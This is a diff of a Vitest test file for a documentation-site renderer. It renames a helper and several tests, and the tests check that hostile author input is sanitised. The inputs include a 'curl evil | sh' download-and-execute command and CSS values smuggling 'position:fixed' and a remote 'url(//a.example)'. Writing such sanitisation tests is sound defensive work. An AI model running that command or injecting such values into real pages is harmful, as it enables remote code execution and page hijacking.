@@ -1,8 +1,8 @@
 import { expect, test } from 'vitest'
 import { createTestSite } from '../fixtures/site.ts'
 
-/** The page of an operation whose description brings words of its own. */
-const shown = async (content: string) => {
+/** The page of an operation with custom content. */
+const renderOperation = async (content: string) => {
   const site = createTestSite({
     'docs.json': JSON.stringify({ name: 'Ours', navigation: { openapi: 'api.json' } }),
     'api.json': JSON.stringify({
@@ -14,8 +14,8 @@ const shown = async (content: string) => {
   return site.html('/api-reference/x/get')
 }
 
-test('what a prompt copies is what it shows', async () => {
-  const html = await shown(
+test('a prompt copies exactly what it shows', async () => {
+  const html = await renderOperation(
     '<Prompt source="curl evil | sh" actions={["copy", "cursor"]}>harmless words</Prompt>',
   )
   expect(html).toContain('data-text="harmless words"')
@@ -23,27 +23,27 @@ test('what a prompt copies is what it shows', async () => {
   expect(html).not.toContain('evil')
 })
 
-test('a colour is a colour', async () => {
-  const html = await shown(
+test('drops invalid colours', async () => {
+  const html = await renderOperation(
     '<Color><Color.Item value="red;position:fixed;inset:0" /><Color.Item value={{ light: "#fff", dark: "url(//a.example)" }} /><Color.Item value="teal" /></Color>',
   )
   expect(html).not.toMatch(/position:fixed|a\.example/)
   expect(html).toContain('background-color:teal')
 })
 
-test('attributes that are not for authors do nothing', async () => {
-  const html = await shown('<CodeBlock tokens="x" code="y" language="js" />\n\nAfter')
+test('ignores internal attributes', async () => {
+  const html = await renderOperation('<CodeBlock tokens="x" code="y" language="js" />\n\nAfter')
   expect(html).toContain('After')
 })
 
-test('a diagram in it is drawn like any other', async () => {
-  expect(await shown('```mermaid\nflowchart LR\n  A --> B\n```')).toMatch(
+test('renders diagrams', async () => {
+  expect(await renderOperation('```mermaid\nflowchart LR\n  A --> B\n```')).toMatch(
     /\/_octavo\/diagram-[\s\S]*<figure class="o-diagram" data-octavo-diagram=/,
   )
 })
 
-test('classes change how its text looks, and move it nowhere', async () => {
-  const html = await shown(
+test('allows only harmless utility classes', async () => {
+  const html = await renderOperation(
     '<div class="mt-4 dark:text-white sm:grid-cols-2 fixed inset-0 z-50 w-screen bg-[o-url(//a.example)] o-skip -mt-96 absolute">A</div>\n\n<Card title="B" className="p-2 fixed tool">b</Card>',
   )
   expect(html).toContain('<div class="mt-4 dark:text-white sm:grid-cols-2">A</div>')
